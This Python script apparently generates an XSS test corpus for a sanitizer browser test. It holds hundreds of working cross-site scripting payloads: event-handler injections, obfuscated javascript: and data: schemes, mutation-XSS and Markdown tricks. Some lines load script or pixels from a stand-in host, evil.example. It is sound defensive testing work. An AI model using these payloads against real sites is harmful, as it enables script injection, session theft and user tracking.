#!/usr/bin/env python3
"""Writes src/test/resources/xss/vectors.txt: XSS vectors for XssCorpusBrowserTest.

Written for Tamizdat (same licence as the project). Classic vectors are typed from memory of
well-known public techniques (HTML5 event handlers, SVG/MathML, URL-scheme obfuscation, mutation
XSS, Markdown link tricks); the rest are combinations of tag x event x payload x context. No
third-party list was copied. Every payload calls alert/confirm/prompt/print or __xss, which the
test's init script turns into a recorded hit.
"""
import itertools, pathlib

PAYLOADS = ["alert(1)", "confirm(2)", "prompt(3)", "print()", "__xss(4)", "top['al'+'ert'](5)",
            "eval('ale'+'rt(6)')", "window['__xss'](7)", "alert`8`", "(alert)(9)"]
EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "onclick", "onanimationstart",
          "onbegin", "ontoggle", "onpageshow", "onpointerenter", "onfocusin", "onwheel"]
TAGS = ["img src=x", "svg", "body", "details open", "input autofocus", "video src=x",
        "audio src=x", "iframe", "object data=x", "marquee", "select autofocus", "textarea autofocus",
        "a href=#", "div style=animation-name:spin", "math", "style", "embed src=x",
        "image src=x", "form", "button autofocus"]
SCHEMES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
           "java&#x09;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
           " javascript:alert(1)", "javascript&colon;alert(1)", "jav&#x0A;ascript:alert(1)",
           "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
           "data:image/svg+xml,<svg onload=alert(1)>", "%6Aavascript:alert(1)",
           "javascript://%0aalert(1)", "\x01javascript:alert(1)", "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>"]
CLASSIC = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>/*</script><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1) />", "<svg><use href=data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>click</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>", "<img src=x:alert(1) onerror=eval(src)>",
    "<img \"\"\"><script>alert(1)</script>\">", "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>", "<img src=x onerror=\"&#97;lert(1)\">",
    "<IMG SRC=x OnErRoR=alert(1)>", "<img src=x onerror\n=alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"x:expression(alert(1))\">x</div>", "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<p style=\"behavior:url(x.htc)\">x</p>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>", "<x onclick=alert(1)>click",
    "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<frameset onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>", "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>", "<table background=javascript:alert(1)>",
    "<td background=javascript:alert(1)>", "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>", "--><script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scrİpt>alert(1)</scrİpt>", "＜script＞alert(1)＜/script＞", "<script\x00>alert(1)</script>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</a>",
    "<a href=\"https://ok.example\" target=_top rel=opener>x</a>",
    "<img src=\"https://evil.example/pixel.gif\">", "<img srcset=\"https://evil.example/p.gif 1x\">",
    "<picture><source srcset=https://evil.example/p.gif><img></picture>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<figure class=\"testimony\" onclick=alert(1)><figcaption>x</figcaption></figure>",
    "<ol start=\"1 onclick=alert(1)\"><li>x</li></ol>", "<td colspan=\"2 onclick=alert(1)\">x</td>",
    # Markdown-specific contexts
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x]( javascript:alert(1) )",
    "[x](javascript&#58;alert(1))", "[x](&#x6A;avascript:alert(1))", "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))", "![x\" onerror=\"alert(1)](x.png)", "![x](x.png\"onerror=\"alert(1))",
    "[x](https://ok.example \"a\\\" onmouseover=\\\"alert(1)\")", "<javascript:alert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)", "[x](data:text/html,<script>alert(1)</script>)",
    "```\n</code><script>alert(1)</script>\n```", "`<script>alert(1)</script>`",
    "> <img src=x onerror=alert(1)>", "* <svg onload=alert(1)>", "# <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "**<img src=x onerror=alert(1)>**",
    "www.javascript:alert(1)", "https://ok.example/<script>alert(1)</script>",
    "https://ok.example/\"onmouseover=\"alert(1)",
]

def html_escape_bits(s):
    return s.replace("<", "&lt;")

def main():
    out = []
    for tag, ev, pay in itertools.islice(
            ((t, e, p) for t in TAGS for e in EVENTS for p in PAYLOADS[:3]), 0, None):
        out.append(f"<{tag} {ev}={pay}>")
    for i, scheme in enumerate(SCHEMES):
        out.append(f'<a href="{scheme}">link</a>')
        out.append(f'<img src="{scheme}">')
        out.append(f'<iframe src="{scheme}"></iframe>')
        out.append(f"[md link]({scheme.replace(' ', '%20')})")
    for pay in PAYLOADS:
        out.append(f"<script>{pay}</script>")
        out.append(f"<svg/onload={pay}>")
        out.append(f"<img src=x onerror={pay}>")
        out.append(f"\"><img src=x onerror={pay}>")
    out.extend(CLASSIC)
    seen, unique = set(), []
    for v in out:
        v = v.replace("\n", "\\n")  # one vector a line; the test turns \n back into newlines
        if v not in seen:
            seen.add(v)
            unique.append(v)
    path = pathlib.Path(__file__).resolve().parent.parent / "src/test/resources/xss/vectors.txt"
    header = [
        "# XSS vectors for XssCorpusBrowserTest, one a line (\\n stands for a newline).",
        "# Written for Tamizdat under the project's licence by bench/xss-corpus.py: classic",
        "# techniques typed from memory plus tag x event x payload and URL-scheme combinations;",
        "# no third-party list copied. Regenerate with: python3 bench/xss-corpus.py",
    ]
    path.write_text("\n".join(header + unique) + "\n", encoding="utf-8")
    print(len(unique), "vectors ->", path)

main()
